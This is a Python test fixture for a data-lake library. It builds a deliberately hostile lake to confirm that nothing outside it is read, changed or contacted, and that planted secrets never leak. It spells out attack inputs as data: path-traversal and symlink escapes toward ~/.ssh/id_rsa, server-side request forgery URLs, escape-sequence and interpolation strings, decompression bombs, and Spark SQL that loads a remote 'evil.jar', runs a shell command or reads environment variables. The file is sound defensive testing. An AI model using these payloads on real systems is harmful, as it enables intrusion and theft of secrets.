"""A lake as a stranger would make it, and what shows that nothing came of it. Import as `tests.hostile.hostile_lake`.

Outside of the lake lie a home folder and a server on the loopback. Whatever is done with the lake, the folder stays as
it is, byte for byte, the server hears nothing, and keys that were planted in the process appear in nothing that is
printed, logged, raised or pickled.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import sqlite3
import threading
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

import frazil
from frazil.spec.data_file import DataFile
from frazil.spec.frozen_map import FrozenMap
from frazil.spec.schema import Schema
from frazil.spec.types import LONG, STRING, NestedField
from frazil.spec.view_metadata import SqlRepresentation, ViewVersion
from frazil.storage.local import LocalStorage
from tests.support.avro_builders import container, required
from tests.support.tables import TableBuilder

ENVIRONMENT_SECRET = "planted-in-the-environment-7c1f"
KEY_SECRET = "planted-secret-access-key-93ab"
CANARY_ROW = "a-row-of-somebody-elses-file-52de"
SECRETS = (ENVIRONMENT_SECRET, KEY_SECRET)
VARIABLE = "FRAZIL_PLANTED_SECRET"
SETTING = "planted.secret"
SETTING_SECRET = "planted-in-sparks-settings-1d40"
PROPERTIES = {"s3.access-key-id": "planted", "s3.secret-access-key": KEY_SECRET, "s3.endpoint": "http://127.0.0.1:9"}
EVIL = "\x1b]52;c;eA==\x07\x1b[2J\x9b\u202e${env:" + VARIABLE + "}${" + SETTING + "}`'\"\\;--/*\nHint: x"
_COLUMNS = "catalog_name, table_namespace, table_name, metadata_location, iceberg_type"
SCHEMA = Schema((NestedField(1, "id", LONG), NestedField(2, "note", STRING)))


@dataclass
class Outside:
    """What is not the stranger's: a home folder, and a server."""

    folder: Path
    requests: list[str] = field(default_factory=list)
    port: int = 0

    def __post_init__(self) -> None:
        self.home = self.folder / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text("a key")
        (self.home / "doc.txt").write_text("a document")
        (self.home / "project" / ".git" / "refs" / "tags").mkdir(parents=True)
        pq.write_table(pa.table({"id": [1], "note": [CANARY_ROW]}), self.home / "doc.parquet")
        for one in self.home.rglob("*"):
            os.utime(one, (1_000_000_000, 1_000_000_000))
        self._before = self._state()
        requests = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                requests.append(f"{self.command} {self.path}")
                self.send_error(404)

            do_HEAD = do_POST = do_PUT = do_DELETE = do_GET

            def log_message(self, *_: object) -> None:
                return

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def _state(self) -> dict[str, tuple[object, ...]]:
        return {
            str(one.relative_to(self.home)): (
                one.is_dir(),
                hashlib.sha256(one.read_bytes()).hexdigest() if one.is_file() else "",
                one.stat().st_mtime_ns,
                one.stat().st_mode,
            )
            for one in sorted(self.home.rglob("*"))
        }

    def check_kept(self, after: str) -> None:
        """Check that no file that was there was changed or deleted, no folder removed, and nothing sent."""
        now = self._state()
        for name, (is_folder, *known) in self._before.items():
            assert name in now, f"{after}: {name} outside was deleted"
            assert is_folder or now[name][1:] == tuple(known), f"{after}: {name} outside was changed"
        assert self.requests == [], f"{after}: a request was sent"

    def check(self, after: str) -> None:
        """Check that nothing was touched, and nothing sent."""
        assert self._state() == self._before, f"{after}: a file outside was touched"
        assert self.requests == [], f"{after}: a request was sent"


class Stranger:
    """Makes the tables of a lake; `tables` are their names, what cannot be read among them."""

    def __init__(self, folder: Path, outside: Outside) -> None:
        self.warehouse = folder / "warehouse"
        self.outside = outside
        self.tables: list[tuple[str, str]] = []
        with frazil.connect(self.warehouse) as lake:
            lake.create_namespace("db", {"comment": EVIL})
            self._lake = lake
            victim = lake.create_table("db.victim", "id bigint, note string")
            victim.append(pa.table({"id": pa.array([7], pa.int64()), "note": ["mine"]}))
            self._make_all()
            self._make_views()
        self._point_anywhere()

    # Tables

    def _builder(self, name: str, **options: Any) -> TableBuilder:
        location = options.pop("location", f"file://{self.warehouse}/db/{name}")
        return TableBuilder(
            SCHEMA, storage=LocalStorage(durable=False), location=location, keeps_ids=True, format_version=3, **options
        )

    def _add(self, name: str, table: TableBuilder, change: Callable[[dict[str, Any]], None] | None = None) -> None:
        path = Path(str(table.load().metadata_location).removeprefix("file://"))
        if change is not None:
            document = json.loads(path.read_bytes())
            change(document)
            path.write_text(json.dumps(document))
        self._point(name, f"file://{path}")

    def _point(self, name: str, location: str) -> None:
        """Name a metadata file, read or not: the stranger's catalog says what the stranger likes."""
        self.tables.append(("db", name))
        with sqlite3.connect(self.warehouse / "catalog.db") as database:
            database.execute(
                f"INSERT INTO iceberg_tables ({_COLUMNS}) VALUES ('lake', 'db', ?, ?, 'TABLE')", (name, location)
            )
        database.close()

    def _one_file(self, table: TableBuilder, **fields: Any) -> DataFile:
        return replace(table.write_data([{"id": 1, "note": EVIL}, {"id": 2, "note": None}]), **fields)

    def _make_all(self) -> None:
        home, port = f"file://{self.outside.home}", self.outside.port
        self._names()
        paths = {
            "outside": f"{home}/doc.parquet",
            "plain_path": f"{self.outside.home}/doc.parquet",
            "dots": f"file://{self.warehouse}/db/dots/data/../../../../outside/home/doc.parquet",
            "http": f"http://127.0.0.1:{port}/latest/meta-data/x.parquet",
            "https": f"https://127.0.0.1:{port}/x.parquet",
            "ftp": f"ftp://127.0.0.1:{port}/x.parquet",
            "webhdfs": f"webhdfs://127.0.0.1:{port}/x.parquet",
            "jar": f"jar:http://127.0.0.1:{port}/x.jar!/x.parquet",
            "device": "/dev/zero",
            "odd_scheme": f"{EVIL}://x",
            "victims": self._victims_file(),
        }
        for name, path in paths.items():
            table = self._builder(name)
            table.commit(self._one_file(table, file_path=path))
            self._add(name, table)
        self._link()
        self._folders(home)
        self._lists(home, port)
        self._bombs()
        self._counts()

    def _victims_file(self) -> str:
        (found,) = self._lake.table("db.victim").inspect.files(columns=["file_path"])["file_path"].to_pylist()
        return str(found)

    def _names(self) -> None:
        table = self._builder("names")
        table.commit(self._one_file(table))

        def change(document: dict[str, Any]) -> None:
            for schema in document["schemas"]:
                schema["fields"][1] |= {"doc": EVIL, "initial-default": EVIL, "write-default": EVIL}
                schema["fields"].append({"id": 3, "name": EVIL, "required": False, "type": "string", "doc": EVIL})
                schema["fields"].append(
                    {
                        "id": 4,
                        "name": "far",
                        "required": False,
                        "type": "string",
                        "write-default": f"${{env:{VARIABLE}}}${{{SETTING}}}",
                    }
                )
            document["last-column-id"] = 4
            document["properties"] |= {"comment": EVIL, EVIL: EVIL, "write.format.default": EVIL}
            document["refs"][EVIL] = {"snapshot-id": document["current-snapshot-id"], "type": "tag"}
            for one in document["snapshots"]:
                one["summary"] |= {EVIL: EVIL, "added-records": "many", "total-data-files": "a:b"}
                one["timestamp-ms"] = 300_000_000_000_000
            document["last-updated-ms"] = 300_000_000_000_000
            document["snapshot-log"] = []

        self._add("names", table, change)

    def _link(self) -> None:
        table = self._builder("link")
        file = self._one_file(table)
        folder = self.warehouse / "db" / "link" / "data"
        (folder / "away").symlink_to(self.outside.home)
        table.commit(replace(file, file_path=f"file://{folder}/away/doc.parquet"), file)
        self._add("link", table)

    def _folders(self, home: str) -> None:
        forgets = {"write.metadata.delete-after-commit.enabled": "true", "write.metadata.previous-versions-max": "1"}
        for name, properties in {
            "data_path": {"write.data.path": home},
            "metadata_path": {"write.metadata.path": home},
            "victims_path": {"write.data.path": f"file://{self.warehouse}/db/victim/data"},
            "forgets": forgets,
            "retries": {"commit.retry.num-retries": "999999999", "commit.retry.min-wait-ms": "99999999"},
            "numbers": {"write.target-file-size-bytes": "many", "write.parquet.row-group-size-bytes": "-1"},
        }.items():
            table = self._builder(name)
            table.commit(self._one_file(table))

            def change(document: dict[str, Any], properties: Mapping[str, str] = properties) -> None:
                document["properties"] |= properties
                document["metadata-log"] = [
                    {"metadata-file": f"{home}/{one}", "timestamp-ms": document["last-updated-ms"] - 1}
                    for one in (".ssh/id_rsa", "doc.txt")
                ]

            self._add(name, table, change)
        table = self._builder("home", location=f"file://{self.warehouse}/db/home")
        table.commit(self._one_file(table))
        self._add("home", table, lambda document: document.update(location=home))

    def _lists(self, home: str, port: int) -> None:
        for name, path in {
            "list_outside": f"{home}/doc.txt",
            "list_http": f"http://127.0.0.1:{port}/list.avro",
        }.items():
            table = self._builder(name)
            table.commit(self._one_file(table))

            def change(document: dict[str, Any], path: str = path) -> None:
                for one in document["snapshots"]:
                    one["manifest-list"] = path
                about = {"snapshot-id": document["current-snapshot-id"], "statistics-path": path}
                sizes = {"file-size-in-bytes": 100, "file-footer-size-in-bytes": 50, "blob-metadata": []}
                document["statistics"] = [{**about, **sizes}]
                document["partition-statistics"] = [{**about, "file-size-in-bytes": 100}]

            self._add(name, table, change)

    def _bombs(self) -> None:
        for name, positions in {"far_vector": [1, 1 << 40], "long_vector": range(1 << 32)}.items():
            table = self._builder(name)
            file = self._one_file(table)
            (vector,) = table.write_vectors({file: positions})
            table.commit(file)
            table.commit_vectors([vector])
            self._add(name, table)
        table = self._builder("wide_nulls")
        table.commit(self._one_file(table))
        folder = self.warehouse / "db" / "bombs"
        folder.mkdir()
        kind = {"type": "fixed", "name": "f", "size": 1 << 20}
        row = {"type": "record", "name": "row", "fields": [required("a", ["null", kind], 1), required("b", "int", 2)]}
        (folder / "list.avro").write_bytes(container(row, (9000, b"\x00\x02" * 9000)))

        def change(document: dict[str, Any]) -> None:
            for one in document["snapshots"]:
                one["manifest-list"] = f"file://{folder}/list.avro"

        self._add("wide_nulls", table, change)
        (folder / "bomb.gz.metadata.json").write_bytes(gzip.compress(b'{"schemas":[' + b"[" * (64 << 20), 9))
        self._point("zipped", f"file://{folder}/bomb.gz.metadata.json")
        (folder / "deep.metadata.json").write_bytes(b'{"a":' * 100_000)
        self._point("deep", f"file://{folder}/deep.metadata.json")
        self._point("metadata_outside", f"file://{self.outside.home}/doc.txt")
        self._point("metadata_http", f"http://127.0.0.1:{self.outside.port}/v1.metadata.json")

    def _counts(self) -> None:
        table = self._builder("counts")
        table.commit(self._one_file(table, record_count=1 << 62, file_size_in_bytes=1 << 40))
        self._add("counts", table)

    # Views

    def _make_views(self) -> None:
        target = f"{self.outside.home}/project"
        queries = {
            "v_insert": f"INSERT OVERWRITE LOCAL DIRECTORY '{target}' USING csv SELECT 'gone'",
            "v_create": "CREATE TABLE default.pwned USING parquet AS SELECT 1 AS x",
            "v_set": "SET spark.sql.session.timeZone=Asia/Tokyo",
            "v_jar": f"ADD JAR 'http://127.0.0.1:{self.outside.port}/evil.jar'",
            "v_env": f"SELECT '${{env:{VARIABLE}}}' AS x",
            "v_java": "SELECT java_method('java.lang.System', 'getenv', '" + VARIABLE + "') AS x",
            "v_file": f"SELECT * FROM parquet.`{self.outside.home}/doc.parquet`",
            "v_script": f"SELECT TRANSFORM(id) USING 'touch {target}/x' AS x FROM lake.db.victim",
            "v_comments": "/**/" * 50 + "x",
        }
        self.views = [("db", name) for name in queries]
        for name, text in queries.items():
            # Past the lake, which refuses what is no query.
            version = ViewVersion(
                1, 0, 1, (SqlRepresentation(text, "spark"),), ("db",), None, FrozenMap({"engine-name": "other"})
            )
            schema = Schema((NestedField(1, "x", STRING, required=False),))
            self._lake.catalog.create_view(("db", name), schema, version, properties={"comment": EVIL})

    def _point_anywhere(self) -> None:
        with sqlite3.connect(self.warehouse / "catalog.db") as database:
            database.execute(
                f"INSERT INTO iceberg_tables ({_COLUMNS}) VALUES ('lake', 'db', ?, X'00FF', 'TABLE')", (EVIL,)
            )
        database.close()
        self.tables.append(("db", EVIL))
